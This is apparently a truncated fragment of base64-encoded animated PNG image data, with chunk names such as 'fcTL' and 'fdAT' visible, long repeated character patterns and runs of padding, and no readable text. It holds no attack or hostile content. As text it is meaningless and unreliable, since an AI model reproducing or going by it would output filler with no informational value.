yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPQg04NMDzI9yPSgC67PITz6sKcpAAAAGmZjVEwAAAADAAAPnwAAD58AAAAAAAAAAAABAGQAAGYeepEAAAewZmRBVAAAAAR4nO3BMQEAAADCoPVPbQwfoAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAADgbk+0AAQ/qWysAAAAaZmNUTAAAAAUAAA+fAAAPnwAAAAAAAAAAAAEAZAAAi9QI6wAAI0dmZEFUAAAABnic7dFBDQAgEMAwwL/nwwU81ipYsj2LmDm/C3jP9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPMj3I9CDTg0wPM